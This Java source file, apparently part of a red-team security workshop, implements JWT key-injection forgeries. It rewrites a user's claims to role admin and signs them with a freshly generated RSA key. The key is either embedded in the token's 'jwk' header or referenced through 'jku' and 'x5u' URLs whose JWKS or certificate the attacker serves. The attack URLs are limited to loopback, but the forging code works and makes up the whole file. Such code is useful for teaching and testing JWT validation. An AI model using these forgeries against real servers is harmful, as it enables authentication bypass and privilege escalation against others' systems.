package workshop.attacks;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.math.BigInteger;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Red team: tokens that bring their own key, for servers that trust the header (ATTACK DEMO, loopback only). */
public final class KeyInjection {

    /** A forged token and the JWKS document the attacker serves at the address the token names. */
    public record Linked(String token, String jwks) {
    }

    /** A forged token and the PEM certificate the attacker serves at the address the token names. */
    public record Certified(String token, String pem) {
    }

    private KeyInjection() {
    }

    /**
     * A6 · alice's claims with {@code role: admin}, RS256-signed with a NEW key pair of yours, whose public key
     * travels in the header as a {@code jwk} (kty RSA, n, e); the original {@code kid} is kept.
     */
    public static String jwk(String token) {
        KeyPair mine = newRsaKey();
        Map<String, Object> header = new LinkedHashMap<>(Jwt.header(token));
        header.put("alg", "RS256");
        header.put("jwk", rsaJwk((RSAPublicKey) mine.getPublic(), null));
        return signed(header, token, mine);
    }

    /**
     * A7 · alice's claims with {@code role: admin}, RS256-signed with a new key pair of yours, with
     * {@code kid: "attacker-key"} and {@code jku} = {@code jwksUrl} (loopback only, else NotLoopback); and the JWKS
     * ({@code {"keys":[{kty, kid, n, e}]}}) to serve there.
     */
    public static Linked jku(String token, URI jwksUrl) {
        Loopback.require(jwksUrl);
        KeyPair mine = newRsaKey();
        Map<String, Object> header = new LinkedHashMap<>(Jwt.header(token));
        header.put("alg", "RS256");
        header.put("kid", "attacker-key");
        header.put("jku", jwksUrl.toString());
        String jwks;
        try {
            jwks = new ObjectMapper().writeValueAsString(Map.of("keys", List.of(rsaJwk((RSAPublicKey) mine.getPublic(), "attacker-key"))));
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
        return new Linked(signed(header, token, mine), jwks);
    }

    /**
     * A7 · alice's claims with {@code role: admin}, RS256-signed with the key of a new self-signed certificate
     * ({@link SelfSignedCertificate}), with {@code x5u} = {@code certificateUrl} (loopback only, else NotLoopback) and
     * the original {@code kid} kept; and the certificate's PEM to serve there.
     */
    public static Certified x5u(String token, URI certificateUrl) {
        Loopback.require(certificateUrl);
        SelfSignedCertificate mine = SelfSignedCertificate.create("attacker");
        Map<String, Object> header = new LinkedHashMap<>(Jwt.header(token));
        header.put("alg", "RS256");
        header.put("x5u", certificateUrl.toString());
        return new Certified(signed(header, token, mine.keyPair()), mine.pem());
    }

    private static String signed(Map<String, Object> header, String token, KeyPair key) {
        String input = Jwt.part(header) + "." + Forgery.adminPayload(token);
        try {
            Signature signer = Signature.getInstance("SHA256withRSA");
            signer.initSign(key.getPrivate());
            signer.update(input.getBytes(StandardCharsets.US_ASCII));
            return input + "." + Jwt.encode(signer.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static KeyPair newRsaKey() {
        try {
            KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
            generator.initialize(2048);
            return generator.generateKeyPair();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** An RSA public JWK (RFC 7517 4, RFC 7518 6.3.1): n and e as unsigned big-endian base64url. */
    private static Map<String, Object> rsaJwk(RSAPublicKey key, String kid) {
        Map<String, Object> jwk = new LinkedHashMap<>();
        jwk.put("kty", "RSA");
        if (kid != null) {
            jwk.put("kid", kid);
        }
        jwk.put("n", Jwt.encode(unsigned(key.getModulus())));
        jwk.put("e", Jwt.encode(unsigned(key.getPublicExponent())));
        return jwk;
    }

    private static byte[] unsigned(BigInteger value) {
        byte[] bytes = value.toByteArray();
        return bytes[0] == 0 ? Arrays.copyOfRange(bytes, 1, bytes.length) : bytes;
    }
}
